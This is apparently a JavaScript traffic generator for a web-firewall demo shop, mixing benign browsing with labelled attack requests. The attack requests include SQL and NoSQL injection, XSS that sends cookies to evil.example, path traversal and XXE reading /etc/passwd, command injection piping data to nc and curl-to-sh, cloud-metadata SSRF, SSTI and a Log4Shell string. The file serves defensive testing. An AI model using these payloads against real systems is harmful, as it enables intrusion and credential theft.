// The requests the generator sends, written for the demo shop (examples/full-stack): ordinary browsing,
// searching, carts, logins and uploads from many clients, and attack payloads of several classes that we wrote
// for the demo (not taken from any dataset). Each builder returns { method, path, headers, body?, attack? }.

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36',
];
const SEARCHES = [
  'wireless headphones',
  'running shoes size 42',
  'espresso machine',
  'usb-c cable 2m',
  "children's books",
  'standing desk',
  'rain jacket',
  'mechanical keyboard',
  'yoga mat',
  'cast iron pan',
  'café au lait mug',
  'Schreibtischlampe',
  'sac à dos',
  'AT&T phone case',
  'rock & roll vinyl',
  '50% off',
  'select a gift for dad',
];
const NAMES = [
  'Ada Lovelace',
  'Grace Hopper',
  'Linus',
  'Zoë Müller',
  "Conan O'Brien",
  'José García',
  'Li Wei',
];
const COMMENTS = [
  'Great product, arrived on time!',
  "Doesn't fit my 2019 model — had to return it.",
  'Five stars. Would buy again :)',
  'Works with the <b>old</b> charger too; drop the price please?',
  'Select the blue one, the red one fades.',
];

const pick = (list, random) => list[Math.floor(random() * list.length)];

/** A client address from TEST-NET ranges: benign visitors come from many, attackers from a few. */
export function clientIp(random, attacker = false) {
  return attacker
    ? `198.51.100.${1 + Math.floor(random() * 6)}`
    : `203.0.113.${1 + Math.floor(random() * 250)}`;
}

function baseHeaders(random) {
  return {
    'user-agent': pick(USER_AGENTS, random),
    accept: 'application/json, text/plain, */*',
    'accept-language': pick(
      ['en-US,en;q=0.9', 'de-DE,de;q=0.8,en;q=0.5', 'fr-FR,fr;q=0.9', 'es-ES,es;q=0.8'],
      random,
    ),
  };
}

/** One ordinary request of the shop's mix. */
export function benignRequest(random) {
  const headers = baseHeaders(random);
  const roll = random();
  if (roll < 0.35)
    return {
      method: 'GET',
      path: `/api/products?page=${1 + Math.floor(random() * 5)}&sort=${pick(['price', 'rating', 'new'], random)}`,
      headers,
    };
  if (roll < 0.6)
    return {
      method: 'GET',
      path: `/api/products?search=${encodeURIComponent(pick(SEARCHES, random))}`,
      headers,
    };
  if (roll < 0.75) return { method: 'GET', path: `/api/products/${1 + Math.floor(random() * 12)}`, headers };
  if (roll < 0.85)
    return {
      method: 'POST',
      path: '/api/cart',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({
        productId: 1 + Math.floor(random() * 12),
        quantity: 1 + Math.floor(random() * 3),
        note: pick(COMMENTS, random),
      }),
    };
  if (roll < 0.93)
    return {
      method: 'POST',
      path: '/api/login',
      headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({
        email: `${pick(NAMES, random).split(' ')[0].toLowerCase()}@example.com`,
        password: `S3cret-${Math.floor(random() * 1e6)}!`,
      }).toString(),
    };
  if (roll < 0.97)
    return {
      method: 'POST',
      path: '/api/reviews',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({
        productId: 1 + Math.floor(random() * 12),
        author: pick(NAMES, random),
        text: pick(COMMENTS, random),
        rating: 4,
      }),
    };
  return multipartUpload(
    headers,
    'receipt.txt',
    `Order ${Math.floor(random() * 1e5)} — thank you for shopping with us.`,
  );
}

function multipartUpload(headers, filename, content) {
  const boundary = '----wafer-demo-boundary';
  const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--${boundary}--\r\n`;
  return {
    method: 'POST',
    path: '/api/upload',
    headers: { ...headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
    body,
  };
}

/** Attack builders by class: where each payload goes, as a scanner or an attacker would send it. */
const ATTACKS = {
  sqli: [
    () => ({
      method: 'GET',
      path: `/api/products?search=${encodeURIComponent("shoes' UNION SELECT email, password FROM users--")}`,
    }),
    () => ({ method: 'GET', path: `/api/products/${encodeURIComponent('1 OR 1=1')}` }),
    () => ({ method: 'POST', path: '/api/login', form: { email: "admin'--", password: 'x' } }),
  ],
  xss: [
    () => ({
      method: 'GET',
      path: `/api/products?search=${encodeURIComponent('<script>fetch("//evil.example/?c="+document.cookie)</script>')}`,
    }),
    () => ({
      method: 'POST',
      path: '/api/reviews',
      json: { productId: 3, author: 'x', text: '<img src=x onerror=alert(document.domain)>', rating: 5 },
    }),
  ],
  path_traversal: [
    () => ({ method: 'GET', path: `/api/files?name=${encodeURIComponent('../../../../etc/passwd')}` }),
    () => ({ method: 'GET', path: '/api/files?name=..%252f..%252f..%252fetc%252fshadow' }),
  ],
  cmdi: [
    () => ({
      method: 'POST',
      path: '/api/cart',
      json: { productId: 1, quantity: 1, note: '; cat /etc/passwd | nc 198.51.100.9 4444' },
    }),
    () => ({
      method: 'GET',
      path: `/api/products?search=${encodeURIComponent('$(curl -s http://198.51.100.9/x.sh | sh)')}`,
    }),
  ],
  ssrf: [
    () => ({
      method: 'POST',
      path: '/api/cart',
      json: {
        productId: 1,
        quantity: 1,
        imageUrl: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      },
    }),
  ],
  ssti: [
    () => ({
      method: 'POST',
      path: '/api/reviews',
      json: {
        productId: 2,
        author: '{{7*7}}',
        text: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        rating: 1,
      },
    }),
  ],
  log4shell: [
    () => ({
      method: 'GET',
      path: '/api/products?page=1',
      headers: { 'user-agent': '${jndi:ldap://198.51.100.9:1389/a}' },
    }),
  ],
  nosqli: [
    () => ({ method: 'POST', path: '/api/login', json: { email: { $ne: null }, password: { $gt: '' } } }),
  ],
  xxe: [
    () => ({
      method: 'POST',
      path: '/api/import',
      raw: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      type: 'application/xml',
    }),
  ],
};

export const ATTACK_CLASSES = Object.keys(ATTACKS);

/** One attack request of `attackClass`. */
export function attackRequest(attackClass, random) {
  const spec = pick(ATTACKS[attackClass], random)();
  const headers = { ...baseHeaders(random), ...(spec.headers ?? {}) };
  let body;
  if (spec.json) {
    headers['content-type'] = 'application/json';
    body = JSON.stringify(spec.json);
  } else if (spec.form) {
    headers['content-type'] = 'application/x-www-form-urlencoded';
    body = new URLSearchParams(spec.form).toString();
  } else if (spec.raw) {
    headers['content-type'] = spec.type;
    body = spec.raw;
  }
  return { method: spec.method, path: spec.path, headers, body, attack: attackClass };
}
